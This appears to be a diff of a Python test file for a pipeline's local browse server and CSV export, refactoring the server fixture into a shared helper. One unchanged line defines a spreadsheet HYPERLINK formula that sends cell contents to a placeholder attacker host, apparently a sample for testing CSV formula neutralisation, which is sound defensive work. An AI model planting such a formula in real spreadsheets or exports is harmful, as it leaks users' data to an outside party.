@@ -7,10 +7,6 @@ import csv
 import http.client
 import io
 import json
-import os
-import signal
-import subprocess
-import sys
 import urllib.parse
 
 import pytest
@@ -22,7 +18,7 @@ from pipeline.demo.samples import at, catalogue, mail, sample_id
 from pipeline.demo.samples.texts import ZHANG
 from pipeline.exports.csvcells import neutral_cell, neutral_csv
 from pipeline.store.raw import RawStore
-from tests.pipeline.cli.test_browse import Server, _wait_until_answering, fingerprint
+from tests.pipeline.cli.test_browse import Server, browsing, fingerprint
 from tests.support.workspace import make_workspace
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?q="&A1,"点击核验")'
@@ -49,25 +45,8 @@ def workspace(tmp_path_factory):
 
 @pytest.fixture(scope="module")
 def server(workspace):
-    """`intake browse --port 0`, in its own process group, until the module's tests end."""
-    database = workspace.config().database
-    before = fingerprint(database)
-    log_path = workspace.root / "browse.log"
-    with log_path.open("w") as log:
-        process = subprocess.Popen(
-            [sys.executable, "-c", "from pipeline.cli.browse import browse_command; browse_command()",
-             "--config", str(workspace.config_path), "--port", "0"],
-            cwd=workspace.root, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
-    try:
-        url, token = _wait_until_answering(process, log_path)
-        yield Server(url, database, before, token)
-    finally:
-        os.killpg(process.pid, signal.SIGTERM)
-        try:
-            process.wait(timeout=10)
-        except subprocess.TimeoutExpired:
-            os.killpg(process.pid, signal.SIGKILL)
-            process.wait()
+    with browsing(workspace) as running:
+        yield running
 
 
 def fetch(server: Server, path: str, host: str | None = None,
